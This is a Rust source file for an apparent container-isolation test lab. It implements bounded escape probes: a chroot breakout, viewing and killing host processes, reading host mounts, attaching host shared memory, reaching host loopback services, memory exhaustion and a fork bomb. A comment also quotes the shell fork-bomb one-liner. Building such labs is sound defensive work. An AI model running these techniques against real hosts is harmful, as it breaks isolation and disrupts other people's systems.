//! The escape lab's attacks. Each one is a single technique, tried the way an
//! attacker with root inside the container would, and prints one line:
//! `ESCAPED: what it did` or `BLOCKED: why`. The line is for people; the tests
//! never take an attack's word for it. They look from outside: did the host's
//! file appear, did its process die, did its hostname change, did its service
//! see a client — or they check what the attack reports against a fact only the
//! host knows (a process's PID, a mount's path), which the attack was not told.

use std::fs;
use std::path::Path;

use nix::mount::{MsFlags, mount};
use nix::sys::signal::{Signal, kill};
use nix::unistd::{Pid, chdir, chroot};

/// (name, arguments, what it tries).
pub const ATTACKS: [(&str, &str, &str); 11] = [
    (
        "chroot-breakout",
        "HOST_FILE",
        "create HOST_FILE on the host, breaking out of chroot if needed",
    ),
    ("see-host-processes", "NAME", "find a host process whose argv[0] is NAME"),
    ("kill-host-process", "PID", "send SIGKILL to the host's process PID"),
    ("read-host-mounts", "MARKER", "find a host mount whose source is MARKER"),
    ("leak-mount", "MARKER", "mount a tmpfs named MARKER on ./mnt, for the host to find"),
    ("rename-host", "NAME", "set the hostname to NAME, for the host to find"),
    ("attach-host-shm", "ID", "attach the host's shared memory segment ID"),
    ("leak-ipc", "KEY", "create SysV IPC objects with KEY, for the host to find"),
    ("reach-host-loopback", "PORT", "read from a service on the host's 127.0.0.1:PORT"),
    ("exhaust-memory", "MIB", "take and touch MIB MiB of memory, for the host to pay for"),
    ("fork-bomb", "N [MARKER]", "start N processes, hold them a moment, then end them"),
];

/// Run attack `name`; `None` if there is no such attack or its arguments are wrong.
pub fn run(name: &str, args: &[&str]) -> Option<String> {
    let line = match (name, args) {
        ("chroot-breakout", [file]) => chroot_breakout(Path::new(file)),
        ("see-host-processes", [marker]) => see_host_processes(marker),
        ("kill-host-process", [pid]) => kill_host_process(Pid::from_raw(pid.parse().ok()?)),
        ("read-host-mounts", [marker]) => read_host_mounts(marker),
        ("leak-mount", [marker]) => leak_mount(marker),
        ("rename-host", [name]) => rename_host(name),
        ("attach-host-shm", [id]) => attach_host_shm(id.parse().ok()?),
        ("leak-ipc", [key]) => leak_ipc(key.parse().ok()?),
        ("reach-host-loopback", [port]) => reach_host_loopback(port.parse().ok()?),
        ("exhaust-memory", [mib]) => exhaust_memory(mib.parse().ok()?),
        // MARKER only names this bomb in the host's process table, for its observer.
        ("fork-bomb", [n, ..]) => fork_bomb(n.parse().ok()?),
        _ => return None,
    };
    Some(line)
}

/// The classic: a root process may call chroot(2) again. Doing so into a
/// subdirectory leaves the working directory *outside* the new root, and from
/// there `..` climbs without limit to the real root. There it creates a file
/// that the host then looks for.
fn chroot_breakout(host_file: &Path) -> String {
    if fs::write(host_file, "escaped\n").is_ok() {
        return format!("ESCAPED: no wall to climb, created {}", host_file.display());
    }
    let result = (|| {
        let _ = fs::create_dir("/.breakout");
        chroot("/.breakout")?;
        for _ in 0..256 {
            chdir("..")?;
        }
        chroot(".")
    })();
    if let Err(e) = result {
        return format!("BLOCKED: chroot failed: {e}");
    }
    match fs::write(host_file, "escaped\n") {
        Ok(()) => format!("ESCAPED: broke out of chroot, created {}", host_file.display()),
        Err(_) => {
            "BLOCKED: climbed to the top of this root; the host's directory is not up there".into()
        }
    }
}

/// Look for a host process through `/proc`, mounting it first if the runtime did
/// not: a root process inside a chroot is allowed to. (We match `argv[0]` exactly:
/// our own command line, and the runtime's, hold NAME as an argument.)
fn see_host_processes(name: &str) -> String {
    if let Err(e) = ensure_proc() {
        return format!("BLOCKED: cannot mount /proc: {e}");
    }
    let pids = crate::report::pids();
    for pid in &pids {
        let cmdline = fs::read(format!("/proc/{pid}/cmdline")).unwrap_or_default();
        if cmdline.split(|b| *b == 0).next() == Some(name.as_bytes()) {
            return format!("ESCAPED: saw the host's {name} as pid {pid}");
        }
    }
    format!("BLOCKED: {} processes visible, none of them the host's", pids.len())
}

fn kill_host_process(pid: Pid) -> String {
    match kill(pid, Signal::SIGKILL) {
        Ok(()) => format!("ESCAPED: sent SIGKILL to pid {pid}"),
        Err(e) => format!("BLOCKED: kill {pid}: {e}"),
    }
}

/// Read the mount table of every process in sight. A chroot hides the mounts
/// outside it from *our* `/proc/self/mountinfo`, but a host process's table is
/// shown from that process's root: without a PID namespace, the host's.
fn read_host_mounts(marker: &str) -> String {
    if let Err(e) = ensure_proc() {
        return format!("BLOCKED: cannot mount /proc: {e}");
    }
    let pids = crate::report::pids();
    for pid in &pids {
        let table = format!("/proc/{pid}/mountinfo");
        let content = fs::read_to_string(&table).unwrap_or_default();
        if let Some(line) = content.lines().find(|l| l.contains(marker)) {
            let mount_point = line.split(' ').nth(4).unwrap_or("?");
            return format!("ESCAPED: {table} lists the host's {marker} at {mount_point}");
        }
    }
    format!("BLOCKED: read the mount tables of {} processes, no host mount in them", pids.len())
}

/// Mount something. Whether the host can see it is for the host to check.
fn leak_mount(marker: &str) -> String {
    let _ = fs::create_dir("mnt");
    match mount(Some(marker), "mnt", Some("tmpfs"), MsFlags::empty(), None::<&str>) {
        Ok(()) => format!("MOUNTED: tmpfs {marker} on ./mnt"),
        Err(e) => format!("BLOCKED: mount: {e}"),
    }
}

/// Rename "the machine". Whether the host's name changed is for the host to check.
fn rename_host(name: &str) -> String {
    match nix::unistd::sethostname(name) {
        Ok(()) => format!("RENAMED: hostname set to {name}"),
        Err(e) => format!("BLOCKED: sethostname: {e}"),
    }
}

/// Attach a SysV shared memory segment by its id, as a process that found it in
/// `ipcs` would. The host sees who attached last (`lpid` in /proc/sysvipc/shm).
fn attach_host_shm(id: libc::c_int) -> String {
    // SAFETY: shmat maps the segment at an address the kernel picks; we only
    // detach it again and never dereference it.
    let addr = unsafe { libc::shmat(id, std::ptr::null(), libc::SHM_RDONLY) };
    if addr as isize == -1 {
        return format!("BLOCKED: shmat {id}: {}", std::io::Error::last_os_error());
    }
    // SAFETY: `addr` is the mapping shmat just returned.
    unsafe { libc::shmdt(addr) };
    format!("ESCAPED: attached shared memory segment {id}")
}

/// Create a shared memory segment, a semaphore set and a message queue, all with
/// `key`. Whether the host can see them is for the host to check.
fn leak_ipc(key: libc::key_t) -> String {
    let flags = libc::IPC_CREAT | 0o600;
    // SAFETY: plain system calls with valid arguments; they only create objects.
    let ids = unsafe {
        [libc::shmget(key, 4096, flags), libc::semget(key, 1, flags), libc::msgget(key, flags)]
    };
    if ids.contains(&-1) {
        return format!("BLOCKED: creating IPC objects: {}", std::io::Error::last_os_error());
    }
    format!("CREATED: shm {}, sem {}, msg {} with key {key}", ids[0], ids[1], ids[2])
}

/// Connect to 127.0.0.1:PORT and read what the service says. Services bound to
/// loopback are often unauthenticated on purpose: "only local programs can reach
/// me" (a database's admin port, a metrics endpoint, a Docker socket proxy).
fn reach_host_loopback(port: u16) -> String {
    use std::io::Read;
    let addr = std::net::SocketAddr::from(([127, 0, 0, 1], port));
    let timeout = std::time::Duration::from_secs(2);
    let stream = match std::net::TcpStream::connect_timeout(&addr, timeout) {
        Ok(stream) => stream,
        Err(e) => return format!("BLOCKED: connect to {addr}: {e}"),
    };
    let _ = stream.set_read_timeout(Some(timeout));
    let mut said = String::new();
    let _ = stream.take(256).read_to_string(&mut said);
    format!("ESCAPED: {addr} said {:?}", said.trim())
}

/// Take memory and write to every page of it (untouched memory costs nothing).
/// The host sees what it cost: the largest resident memory of the run.
/// Bounded, so that where nothing stops it the host loses only `mib` MiB for a
/// moment. A memory limit stops it the hard way: the kernel kills this process,
/// and this line is never printed; the runtime says why.
fn exhaust_memory(mib: usize) -> String {
    let mut held: Vec<Vec<u8>> = Vec::with_capacity(mib);
    for _ in 0..mib {
        held.push(vec![0x5a; 1 << 20]);
    }
    let touched: usize = held.iter().map(|chunk| chunk[chunk.len() - 1] as usize).sum();
    format!("ESCAPED: held {mib} MiB ({touched} chunks touched); nothing stopped it")
}

/// The fork bomb, bounded: start `n` processes that wait, hold them for a moment
/// (while the host counts them in its process table), and end them all again.
/// A real one (`:(){ :|:& };:`) never stops; on a host without a pids limit it
/// fills the process table.
fn fork_bomb(n: usize) -> String {
    use nix::unistd::{ForkResult, fork};
    let mut children = Vec::new();
    let mut refused = None;
    for _ in 0..n {
        // SAFETY: the probe is single-threaded, and the child only calls
        // async-signal-safe functions before it ends.
        match unsafe { fork() } {
            Ok(ForkResult::Child) => {
                // Die with the parent, whatever happens to it.
                let _ = nix::sys::prctl::set_pdeathsig(Signal::SIGKILL);
                loop {
                    nix::unistd::pause();
                }
            }
            Ok(ForkResult::Parent { child }) => children.push(child),
            Err(e) => {
                refused = Some(e);
                break;
            }
        }
    }
    let started = children.len();
    std::thread::sleep(std::time::Duration::from_millis(300));
    for child in children {
        let _ = kill(child, Signal::SIGKILL);
        let _ = nix::sys::wait::waitpid(child, None);
    }
    match refused {
        Some(e) => format!("BLOCKED: fork refused after {started} processes: {e}"),
        None => format!("ESCAPED: started {started} processes; nothing stopped it"),
    }
}

fn ensure_proc() -> nix::Result<()> {
    if Path::new("/proc/self").exists() {
        return Ok(());
    }
    let _ = fs::create_dir("/proc");
    mount(Some("proc"), "/proc", Some("proc"), MsFlags::empty(), None::<&str>)
}
